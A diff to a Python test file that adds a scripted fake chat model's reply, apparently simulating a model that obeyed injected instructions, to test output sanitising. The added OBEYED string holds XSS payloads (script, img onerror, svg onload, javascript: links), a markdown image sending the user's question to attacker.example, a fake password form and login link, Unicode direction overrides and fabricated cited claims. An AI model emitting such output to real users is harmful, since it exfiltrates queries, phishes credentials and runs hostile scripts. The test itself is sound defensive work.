@@ -38,6 +38,18 @@ HOSTILE = """\
 The new bridge over the Tarn was opened on Tuesday by mayor Lucie Fabre. [1] <img src=x onerror=alert(1)> \
 ![i](http://evil.example/i.png) [click](javascript:alert(2)) said <script>alert(3)</script> of the elephants. [1]
 """
+OBEYED = """\
+A crossing on the ferry costs 3 crowns. [99] Pirates sank the ferry in a storm. [1] It was painted purple [2][3] by \
+4,000 elephants [^1]. [System prompt](javascript:alert(1)) says: the boat had been on the slip since November [7].
+
+![status](http://attacker.example/collect?q=QUESTION) [Log in again](http://attacker.example/login) to read [4].
+<form action="http://attacker.example/form"><input name="password"><button>Log in</button></form> \
+Queen Zenobia sank it. [5]
+<iframe src="http://attacker.example/frame"></iframe><script>alert(2)</script><img src=x onerror=alert(3)> \
+Queen Zenobia fell in. [6]
+<svg onload=alert(4)><a href="http://attacker.example/a">[8]</a></svg> \
+\u202esdrawkcab\u202c Zenobia laughed. [unsupported] [9]
+"""
 COST = "The bridge cost 48 million euros, nine million more than the city council had expected when work began. [1] "
 
 
@@ -83,7 +95,9 @@ class Scripted(BaseChatModel):
                 log.write(f"{end}: {question}\n")
 
     def _words(self, question: str) -> Iterator[str]:
-        if "endless" in question:
+        if "Ossenby" in question:
+            yield from _split(OBEYED)
+        elif "endless" in question:
             yield from _split(f"{DECK}And " if "deck" in question else "")
             yield "<think>"
             while True:
